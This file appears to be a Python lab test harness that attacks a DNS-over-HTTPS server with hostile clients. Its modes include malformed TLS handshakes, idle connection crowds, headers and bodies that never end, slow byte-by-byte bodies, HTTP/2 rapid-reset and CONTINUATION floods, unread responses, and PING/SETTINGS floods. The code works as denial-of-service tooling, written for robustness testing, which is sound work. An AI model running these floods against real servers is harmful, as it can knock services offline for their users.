"""Clients of DoH that mean harm. Run inside the lab: flood.py ADDRESS PORT MODE [N]; prints one line of
JSON, what became of them, and ends with its standard input.

    garbage N       connections with octets that are no TLS, and TLS handshakes that stop half way
    crowd N         connections that do nothing once TLS is there
    headers         a request whose headers do not end, over HTTP/1.1 and HTTP/2
    body            one whose body does not end, over HTTP/1.1 (declared, chunked) and HTTP/2
    slow            bodies octet by octet, and a connection that asks while they come
    reset N         N requests that are taken back at once, answers read
    unread N        N requests for a long answer that is never read
    control N       N PINGs and as many SETTINGS, answers never read
    frames N        frames that make no sense, N connections of random ones
"""
import base64
import json
import os
import random
import select
import socket
import ssl
import struct
import sys

from h2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST, SETTINGS, WINDOW, frame, frames,
                literal, request)

TO = sys.argv[1], int(sys.argv[2])
held = []           # connections stay open until the end
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE


def question(name, kind=1):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return struct.pack(">6H", 0, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def path(name, kind=1):
    return "/dns-query?dns=" + base64.urlsafe_b64encode(question(name, kind)).rstrip(b"=").decode()


def connect(alpn, buffer=None):
    raw = socket.socket()
    if buffer:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    raw.settimeout(20)
    raw.connect(TO)
    context.set_alpn_protocols([alpn])
    s = context.wrap_socket(raw, server_hostname="localhost")
    held.append(s)
    return s


def http2(settings=b"", buffer=None):
    s = connect("h2", buffer)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return s


def read_all(s):
    """What comes until the connection ends."""
    got = b""
    try:
        while chunk := s.recv(65535):
            got += chunk
    except OSError:
        pass
    return got


def push(s, data, times=1):
    """Sends until the other side has had enough; returns the octets that went."""
    sent = 0
    try:
        for _ in range(times):
            s.sendall(data)
            sent += len(data)
    except OSError:
        pass
    return sent


def garbage(n):
    for i in range(n):
        with socket.create_connection(TO, 20) as s:
            if i % 2:
                push(s, os.urandom(random.randrange(1, 2000)))
            else:                                           # the first octets of a handshake, then nothing
                push(s, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(i))
    return {"made": n}


def crowd(n):
    clients = [connect("h2" if i % 2 else "http/1.1") for i in range(n)]
    last = http1_get(clients[-1] if n % 2 else connect("http/1.1"))
    closed = 0
    for c in clients:
        c.setblocking(False)
    while select.select(clients, [], [], 1)[0]:
        for c in list(clients):
            try:
                if c.recv(4096) == b"":
                    clients.remove(c)
                    closed += 1
            except ssl.SSLWantReadError:
                pass
            except OSError:
                clients.remove(c)
                closed += 1
        if closed:
            break
    return {"last": last, "closed": closed}


def http1_get(s):
    s.sendall(f"GET {path('www.example.com')} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
    got = b""
    while not got.endswith(bytes([192, 0, 2, 80])):         # the address of www.example.com is its last octets
        chunk = s.recv(4096)
        if not chunk:
            break
        got += chunk
    return got[:12].decode("latin-1")


def headers(_):
    s = connect("http/1.1")
    sent = push(s, b"GET /dns-query HTTP/1.1\r\nHost: localhost\r\n") + push(s, b"X-A: " + b"a" * 1000 + b"\r\n", 1000)
    first = read_all(s)[:12].decode("latin-1")
    s = http2()
    sent2 = push(s, frame(HEADERS, END_STREAM, 1, request("/dns-query")))
    sent2 += push(s, frame(CONTINUATION, 0, 1, literal("x-a", "a" * 16000)), 1000)
    s.close()
    return {"http1": [sent, first], "http2": sent2}


def body(_):
    kind = "content-type: application/dns-message\r\n"
    s = connect("http/1.1")
    s.sendall(f"POST /dns-query HTTP/1.1\r\nHost: localhost\r\n{kind}Content-Length: 1000000000\r\n\r\n".encode())
    declared = s.recv(4096)[:12].decode("latin-1")
    s = connect("http/1.1")
    s.sendall(f"POST /dns-query HTTP/1.1\r\nHost: localhost\r\n{kind}Transfer-Encoding: chunked\r\n\r\n".encode())
    push(s, b"1000\r\n" + bytes(4096) + b"\r\n", 4)
    chunked = s.recv(4096)[:12].decode("latin-1")
    s = http2()
    s.sendall(frame(HEADERS, END_HEADERS, 1, request("/dns-query", "POST", ("content-type", "application/dns-message"))))
    push(s, frame(DATA, 0, 1, bytes(16384)), 3)
    got = b""
    while not any(f[0] == RST for f in frames(got)):
        got += s.recv(65535)
    return {"declared": declared, "chunked": chunked, "reset": [f[2] for f in frames(got) if f[0] == RST]}


def slow(_):
    dribbling = []
    for _ in range(20):
        s = http2()
        s.sendall(frame(HEADERS, END_HEADERS, 1, request("/dns-query", "POST")) + frame(DATA, 0, 1, b"\0"))
        dribbling.append(s)
    asker = connect("http/1.1")
    seen = []
    for _ in range(20):
        for s in dribbling:
            push(s, frame(DATA, 0, 1, b"\0"))
        seen.append(http1_get(asker))
    return {"seen": sorted(set(seen))}


def reset(n):
    s = http2()
    ask = request(path("www.example.com"))
    sent = 0
    try:
        for i in range(n):
            s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, ask) +
                      frame(RST, 0, 2 * i + 1, struct.pack(">I", 8)))
            sent += 1
    except OSError:
        pass
    read_all(s)
    return {"sent": sent}


def unread(n):
    window = struct.pack(">HI", 4, 2**31 - 1)       # SETTINGS_INITIAL_WINDOW_SIZE
    s = http2(window, 4096)
    s.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
    ask = request(path("big4.example.com", 16))
    s.settimeout(2)
    return {"sent": push(s, b"", 1) + sum(push(s, frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, ask)) for i in range(n))}


def control(n):
    s = http2(buffer=4096)
    s.settimeout(2)
    sent = push(s, frame(PING, 0, 0, bytes(8)) * 100, n // 100) + push(s, frame(SETTINGS, 0, 0) * 100, n // 100)
    return {"sent": sent}


def nonsense(n):
    rand = random.Random(7)
    for _ in range(n):
        s = http2()
        push(s, b"".join(frame(rand.randrange(0, 12), rand.randrange(256), rand.randrange(8), rand.randbytes(rand.randrange(40)))
                         for _ in range(30)))
        s.close()
    return {"made": n}


MODES = {"garbage": garbage, "crowd": crowd, "headers": headers, "body": body, "slow": slow, "reset": reset,
         "unread": unread, "control": control, "frames": nonsense}
print(json.dumps(MODES[sys.argv[3]](int(sys.argv[4]) if len(sys.argv) > 4 else 0)), flush=True)
sys.stdin.read()
